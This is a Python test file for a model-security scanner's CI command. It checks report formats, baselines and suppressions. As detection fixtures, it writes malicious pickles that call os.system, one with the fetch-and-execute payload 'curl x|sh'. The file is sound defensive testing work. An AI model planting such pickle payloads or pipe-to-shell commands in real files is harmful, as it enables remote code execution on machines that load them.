"""`modelshield ci` end to end, as a CI job runs it: a project with models, a requirements
file, a policy and a baseline, run from another directory, every report checked against its
schema, suppressions and the baseline still applying."""

from __future__ import annotations

import json
from typing import Any

import jsonschema
from junitparser import JUnitXml

from modelshield.report.json_report import schema
from tests.cli.conftest import reduce_os_system_pickle, run_cli
from tests.gate.conftest import Project
from tests.report.conftest import validate_sarif
from tests.report.junit_schema import validate_junit


def placed_for_github(sarif: dict[str, Any]) -> list[tuple[str, str, int]]:
    """``(rule, uri, startLine)`` of every result, after checking each is placed as GitHub
    code scanning expects: a physical location with a URI relative to %SRCROOT% and a
    region with a startLine."""
    run = sarif["runs"][0]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"].startswith("file:///")
    placed = []
    for result in run["results"]:
        (location,) = result["locations"]
        artifact = location["physicalLocation"]["artifactLocation"]
        assert artifact["uriBaseId"] == "%SRCROOT%"
        assert not artifact["uri"].startswith(("/", "file:", "../")), artifact
        line = location["physicalLocation"]["region"]["startLine"]
        assert isinstance(line, int) and line >= 1
        assert result["partialFingerprints"]["modelshieldFinding/v2"]
        placed.append((result["ruleId"], artifact["uri"], line))
    return placed


def test_ci_end_to_end(project: Project) -> None:
    root, elsewhere = project.root, project.elsewhere
    # Adopting the gate on a project that already has findings: record them.
    adopt = run_cli("ci", "../project", "--update-baseline", cwd=elsewhere)
    assert adopt.code == 0, adopt.stdout + adopt.stderr
    baseline = json.loads((root / "modelshield-baseline.json").read_text())
    recorded = {(f["rule_id"], f["path"]) for f in baseline["findings"]}
    assert recorded == {
        ("PICKLE-CALL-DANGEROUS", "models/evil.pkl"),
        ("AUDIT-VULNERABLE-DEPENDENCY", "requirements.txt"),  # jinja2, and requests whose
        ("POLICY-UNUSED-ENTRY", "modelshield.toml"),  # ignore expired; the stale suppress
        ("POLICY-IGNORE-EXPIRED", "modelshield.toml"),
    }

    # The project moves on: lines move, a model is saved again with the same content, and a
    # new model calls os.system.
    requirements = root / "requirements.txt"
    requirements.write_text("# pinned for the service\n\n" + requirements.read_text())
    (root / "models" / "evil.pkl").write_bytes(reduce_os_system_pickle())
    (root / "models" / "new").mkdir()
    (root / "models" / "new" / "backdoor.pkl").write_bytes(reduce_os_system_pickle(b"curl x|sh"))

    out = elsewhere / "reports"
    out.mkdir()
    run = run_cli(
        "ci",
        "../project",
        "--sarif",
        "reports/ci.sarif",
        "--junit",
        "reports/ci.xml",
        "--json",
        "reports/ci.json",
        "--html",
        "reports/ci.html",
        cwd=elsewhere,
    )
    assert run.code == 1, run.stdout + run.stderr
    assert "Traceback" not in run.stderr
    assert "reports/ci.sarif, reports/ci.xml, reports/ci.json, reports/ci.html" in run.stderr

    # SARIF 2.1.0, placed for GitHub: only the new finding is left.
    sarif = json.loads((out / "ci.sarif").read_text())
    validate_sarif(sarif)
    assert placed_for_github(sarif) == [("PICKLE-CALL-DANGEROUS", "models/new/backdoor.pkl", 1)]
    assert sarif["runs"][0]["properties"]["baselined"] == sum(
        f["count"] for f in baseline["findings"]
    )

    # JUnit under the schema CI systems read: one suite per pillar, a case per file.
    junit_text = (out / "ci.xml").read_text()
    validate_junit(junit_text)
    suites = {s.name: {c.name for c in s} for s in JUnitXml.fromstring(junit_text)}
    assert set(suites) == {"modelshield gate", "modelshield scan", "modelshield audit"}
    assert suites["modelshield gate"] == {"modelshield.toml"}
    assert "models/new/backdoor.pkl" in suites["modelshield scan"]
    assert "requirements.txt" in suites["modelshield audit"]

    # The documented JSON schema; the suppression, the baseline and the search still apply.
    document = json.loads((out / "ci.json").read_text())
    jsonschema.Draft202012Validator(schema()).validate(document)
    assert document["command"] == "ci" and document["exit_code"] == 1
    findings = [f for r in document["results"] for f in r["findings"]]
    assert [(f["rule_id"], f["location"]["path"]) for f in findings] == [
        ("PICKLE-CALL-DANGEROUS", "models/new/backdoor.pkl")
    ]
    # models/legacy/*: PICKLE-IMPORT-UNKNOWN; GHSA-aaaa-bbbb-cccc: ignored until 2999.
    assert document["summary"]["suppressed"] == 2
    assert document["summary"]["baselined"] == sum(f["count"] for f in baseline["findings"])
    paths = {r["path"] for r in document["results"]}
    assert "models/legacy/layer.pkl" in paths
    assert not any(p.startswith(("scratch", ".venv", "/")) for p in paths)
    left_out = {(e["path"], e["reason"]) for e in document["excluded"]}
    assert {("scratch", "gitignore"), (".venv", "default")} <= left_out
    assert {r["pillar"] for r in document["results"]} == {"gate", "scan", "audit"}

    # The HTML page holds the verdict and the finding.
    page = (out / "ci.html").read_text()
    assert ">FAIL</span>" in page and "models/new/backdoor.pkl" in page
    assert "<script" not in page


def test_ci_places_text_findings_on_their_lines(project: Project) -> None:
    """Without a baseline: the vulnerabilities sit on their requirement lines, the policy's
    own findings on their entries."""
    project.without_baseline()
    run = run_cli("ci", str(project.root), "--sarif", "ci.sarif", "-q", cwd=project.elsewhere)
    assert run.code == 1, run.stdout + run.stderr
    sarif = json.loads((project.elsewhere / "ci.sarif").read_text())
    validate_sarif(sarif)
    placed = set(placed_for_github(sarif))
    assert placed == {
        (
            "POLICY-UNUSED-ENTRY",
            "modelshield.toml",
            project.line_of("modelshield.toml", "[[suppress]]") + 4,
        ),
        ("POLICY-IGNORE-EXPIRED", "modelshield.toml", 21),
        ("PICKLE-CALL-DANGEROUS", "models/evil.pkl", 1),
        (
            "AUDIT-VULNERABLE-DEPENDENCY",
            "requirements.txt",
            project.line_of("requirements.txt", "jinja2"),
        ),
        (
            "AUDIT-VULNERABLE-DEPENDENCY",
            "requirements.txt",
            project.line_of("requirements.txt", "requests"),
        ),
    }
    # The text report: a vulnerability table and the verdict.
    assert "Found 2 known vulnerabilities in 2 package versions" in run.stdout
    assert run.stdout.rstrip().endswith("(exit code 1)")


def test_exit_zero_reports_without_failing_but_still_fails_on_errors(project: Project) -> None:
    missing = run_cli("ci", "../project", cwd=project.elsewhere)
    assert missing.code == 2 and "modelshield-baseline.json does not exist" in missing.stderr
    project.without_baseline()
    run = run_cli("ci", "../project", "--exit-zero", "--skip", "audit", "-q", cwd=project.elsewhere)
    assert run.code == 0, run.stdout + run.stderr
    assert "FAIL" in run.stdout  # the report still says what it found
    (project.root / "models" / "huge.bin").write_bytes(b"\x00" * 2048)
    policy = project.root / "modelshield.toml"
    policy.write_text(policy.read_text() + "\n[limits]\nmax_file_bytes = 1024\n")
    run = run_cli("ci", "../project", "--exit-zero", "--skip", "audit", "-q", cwd=project.elsewhere)
    assert run.code == 2, run.stdout + run.stderr
